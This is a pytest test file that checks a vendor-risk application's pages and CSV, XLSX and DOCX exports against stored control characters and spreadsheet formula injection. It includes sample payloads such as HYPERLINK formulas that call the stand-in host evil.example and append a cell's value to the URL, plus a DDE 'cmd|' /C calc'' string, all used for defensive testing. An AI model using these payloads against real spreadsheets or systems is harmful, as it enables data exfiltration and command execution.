"""Issue 16, findings 6 and 7: no stored value can break an export or reach a spreadsheet live.

The demo portfolio is loaded, then every free-text column of every table gets control
characters appended directly in the database (as data stored before validation refused
them, or by another tool), and formula strings prefixed. Then every page and export of the
URL map is read with real ids: none may fail, and every export must answer its file with the
text made safe."""
import csv
import io
import re
import zipfile

import docx
import pytest
from openpyxl import load_workbook
from sqlalchemy import String, Text, text, update

from tests.conftest import ENGINE
from vendorrisk.core.models import metadata

FREE_TEXT = {"name", "name_en", "address", "notes", "title", "service", "exit_plan", "description", "summary",
             "comment", "note", "scope", "evidence", "reason", "decision_note", "conclusion", "value", "raw",
             "question_text", "closure_evidence", "display_name", "exceptions_noted", "cuecs", "reviewer_comment",
             "exceptions_follow_up", "cuecs_follow_up", "role", "region", "phone"}
# PostgreSQL cannot store NUL at all; every other control character XML refuses can be stored.
CONTROLS = "\x0b\x01\x1f" + ("\x00" if ENGINE == "sqlite" else "")
FORMULA = "=HYPERLINK(\"http://evil.example\",\"x\")"
TABLES = {"vendor_id": "vendor", "arrangement_id": "arrangement", "assessment_id": "selection_assessment",
          "certificate_id": "certificate", "contract_id": "contract", "version_id": "contract_version",
          "evidence_id": "assessment_evidence", "file_id": "review_attachment", "finding_id": "finding",
          "link_id": "outsourcing_link", "response_id": "questionnaire_response", "review_id": "monitoring_review",
          "user_id": "user_account", "session_id": "user_session", "job_id": "export_job",
          "check_id": "antisocial_check", "campaign_id": "questionnaire_campaign"}
EXPORT = re.compile(r"(\.xlsx|\.docx|\.csv|\.zip|/workbook|/file)$")
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _corrupt(db) -> int:
    """Append control characters to every free-text value and put a formula before every name."""
    changed = 0
    for table in metadata.tables.values():
        for column in table.columns:
            if column.name in FREE_TEXT and isinstance(column.type, (String, Text)):
                suffix = CONTROLS if column.name != "name" else CONTROLS + "x"
                new_value = column + suffix if column.name != "title" else FORMULA + column + suffix
                changed += db.execute(update(table).values({column.name: new_value})).rowcount
    db.commit()
    return changed


def _arguments(db, app) -> dict:
    """A real value for every URL argument: records of the first arrangement's vendor where
    possible, else the first record of the table."""
    from vendorrisk.compliance.matrix import all_obligations
    from vendorrisk.questionnaires.template_files import catalogue
    from vendorrisk.selection.criteria import latest_sets
    vendor_id = db.execute(text("SELECT vendor_id FROM arrangement ORDER BY id LIMIT 1")).scalar_one()
    values = {"vendor_id": vendor_id}
    for argument, table in TABLES.items():
        if argument in values:
            continue
        found = db.execute(text(f"SELECT id FROM {table} ORDER BY id LIMIT 1")).scalar()
        values[argument] = found if found is not None else 1
    with app.app_context():
        sets = latest_sets()
        values["key"], values["version"] = sets[0].key, sets[0].version
        values["template_id"] = catalogue().latest()[0].id
        values["obligation"] = all_obligations()[0].id
    values["finding_evidence_id"], values["evidence_finding_id"] = db.execute(text(
        "SELECT id, finding_id FROM finding_evidence WHERE file_id IS NOT NULL ORDER BY id LIMIT 1")).one()
    values["check_with_file_id"], values["check_vendor_id"] = db.execute(text(
        "SELECT id, vendor_id FROM antisocial_check WHERE evidence_file_id IS NOT NULL ORDER BY id LIMIT 1")).one()
    values["row_id"], values["row_campaign_id"] = db.execute(text(
        "SELECT id, campaign_id FROM questionnaire_campaign_vendor ORDER BY id LIMIT 1")).one()
    values["template"] = "b0501"
    values["kind"] = "register"
    return values


def _urls(app, values):
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in ("static", "calendar_feed.feed"):
            continue
        if rule.rule.startswith("/api/v1/openapi"):
            continue
        arguments = {name: values[name] for name in rule.arguments}
        if "/findings/" in rule.rule and "evidence_id" in arguments:  # a finding's evidence, not an assessment's
            arguments.update(finding_id=values["evidence_finding_id"], evidence_id=values["finding_evidence_id"])
        if "antisocial-checks" in rule.rule:  # a check of that vendor, with an evidence file
            arguments.update(vendor_id=values["check_vendor_id"], check_id=values["check_with_file_id"])
        if "row_id" in arguments:  # a vendor row of that campaign
            arguments.update(campaign_id=values["row_campaign_id"], row_id=values["row_id"])
        arguments.setdefault("vendor_id", values["vendor_id"])  # the questionnaire workbook's vendor
        yield rule.rule, rule.build(arguments, append_unknown=True)[1]


def _check_file(path: str, data: bytes) -> None:
    """The export opens, holds no character XML refuses, and no cell starts with a live formula."""
    if path.endswith(".xlsx") or path.endswith("/workbook"):
        workbook = load_workbook(io.BytesIO(data), read_only=True)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows(values_only=True):
                for value in row:
                    if isinstance(value, str):
                        assert not value.startswith(("=", "+", "@")), (path, value)
        workbook.close()
    elif path.endswith(".docx"):
        document = docx.Document(io.BytesIO(data))
        assert not any(UNWRITABLE.search(p.text) for p in document.paragraphs), path
    elif path.endswith(".csv"):
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), (path, value)
    elif path.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    _check_file(name, archive.read(name))


@pytest.fixture
def corrupted(app, db, runner):
    result = runner.invoke(args=["demo"])
    assert result.exit_code == 0, result.output
    assert _corrupt(db) > 50
    return _arguments(db, app)


def _fetched(app, caller, url):
    """The answer to ``url``; an export started as a background job (202) is built as the
    scheduler would and its file fetched."""
    from vendorrisk.compliance.jobs import run_pending
    answer = caller.get(url)
    if answer.status_code == 202 and "Location" in answer.headers:
        run_pending(app)
        answer = caller.get(answer.headers["Location"])
    return answer


def test_every_page_and_export_survives_control_characters_and_formulas_in_stored_text(app, client, login, api,
                                                                                      corrupted):
    login("admin")
    token = api("admin")
    failures, exports = [], 0
    for rule, url in _urls(app, corrupted):
        answer = _fetched(app, token if rule.startswith("/api/") else client, url)
        if answer.status_code >= 500 or (EXPORT.search(rule) and answer.status_code != 200):
            failures.append((url, answer.status_code, answer.get_data(as_text=True)[:200]))
            continue
        if EXPORT.search(rule):
            exports += 1
            _check_file(rule, answer.get_data())
    assert not failures, failures
    assert exports >= 15, exports


def test_the_audit_csv_holds_no_live_formula_from_a_request_id(app, client, login):
    user = login("compliance")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    refused = client.post("/admin/users", headers={"X-Request-ID": evil}, data={})
    assert refused.status_code == 403  # a refused request is recorded too
    assert refused.headers["X-Request-ID"] != evil
    client.post("/vendors/new", headers={"X-Request-ID": "\tcmd|' /C calc'!A0"}, data={"name": "x"})
    answer = client.get("/audit/export.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    assert any(user.email in row for row in rows[1:])
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert not any("HYPERLINK" in value for row in rows for value in row)


@pytest.mark.parametrize("incoming, kept", [
    ("abc-123", True), ("0f8e2c1a-1b2c-4d5e-8f90-123456789abc", True), ("req_1.2:3", True),
    ("=1+1", False), ("-1", False), ("a" * 65, False), ("x y", False), ("a;b", False), ("日本", False), ("", False),
    ("@SUM(A1)", False), ("+1", False)])
def test_a_request_id_is_kept_only_when_it_looks_like_one(client, incoming, kept):
    answer = client.get("/healthz", headers={"X-Request-ID": incoming})
    assert (answer.headers["X-Request-ID"] == incoming) is kept
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,63}", answer.headers["X-Request-ID"])


@pytest.mark.parametrize("start", ["\t", "\r", "\uff1d", " =", "\u3000＝", "+", "@", "-"])
def test_dora_csvs_leave_no_cell_live(app, client, db, login, start):
    from tests import factories
    vendor = factories.gen_vendor(db, name=f"{start}HYPERLINK(1) 株式会社", name_en=f"{start}1+1")
    factories.gen_arrangement(db, vendor, service=f"{start}cmd|' /C calc'!A0")
    db.commit()
    login("compliance")
    for template in ("b0501", "b0502"):
        answer = _fetched(app, client, f"/compliance/export/dora-{template}.csv")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))
        cells = [value for row in rows for value in row]
        assert any(start in value for value in cells), template
        for value in cells:
            assert not value.lstrip(" \u3000").startswith(("=", "+", "@", "\t", "\r", "\uff1d")), (template, value)
            assert not (value.startswith("-") and not value[1:2].isdigit()), (template, value)
